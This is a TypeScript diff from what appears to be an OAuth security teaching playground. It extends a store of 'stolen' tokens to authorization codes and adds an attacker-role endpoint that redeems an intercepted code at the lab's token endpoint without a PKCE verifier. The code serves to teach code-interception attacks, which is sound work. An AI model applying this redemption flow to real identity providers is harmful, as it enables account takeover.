@@ -26,7 +26,9 @@ const nothingStolen = (what: string) =>
   );
 
 export const lootSchema = z.object({
-  kind: z.enum(['refresh_token', 'access_token'], { error: 'kind must be refresh_token or access_token' }),
+  kind: z.enum(['refresh_token', 'access_token', 'code'], {
+    error: 'kind must be refresh_token, access_token or code',
+  }),
   value: z.string().min(1, 'value: the stolen token is missing').max(4096),
   client_id: z.string().max(200).optional(),
 });
@@ -49,7 +51,10 @@ export async function receiveLoot(request: Request): Promise<Response> {
     );
   const item: LootItem = {
     ...parsed.data,
-    how: 'sent by the injected script',
+    how:
+      parsed.data.kind === 'code'
+        ? 'caught on the redirect by the malicious app'
+        : 'sent by the injected script',
     run: runOf(request.headers),
     at: new Date().toISOString(),
   };
@@ -217,4 +222,34 @@ export async function forgedCallback(request: Request, env: PlaygroundEnv): Prom
   target.searchParams.set('code', code.value);
   target.searchParams.set('iss', `${env.publicOrigin}/oidc`);
   return new Response(null, { status: 303, headers: { location: target.href, 'cache-control': 'no-store' } });
+}
+
+/** POST /api/attacker/redeem-code: the caught code at the token endpoint, without a code_verifier (RFC 7636 §1). */
+export async function redeemCaughtCode(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const caught = lootStore().newest(learnerId, 'code', runOf(request.headers));
+  if (!caught) return nothingStolen('authorization code');
+  return attempt(async () => {
+    const answer = await asAttacker(request, env, '/oidc/token', {
+      method: 'POST',
+      form: {
+        grant_type: 'authorization_code',
+        code: caught.value,
+        redirect_uri: `${env.publicOrigin}/callback`,
+        ...(caught.client_id ? { client_id: caught.client_id } : {}),
+      },
+    });
+    const accessToken = (answer.body as { access_token?: unknown } | null)?.access_token;
+    if (answer.status === 200 && typeof accessToken === 'string')
+      lootStore().add(learnerId, {
+        kind: 'access_token',
+        value: accessToken,
+        client_id: caught.client_id,
+        how: 'got by redeeming the caught code',
+        run: caught.run,
+        at: new Date().toISOString(),
+      });
+    return answer;
+  }, env);
 }
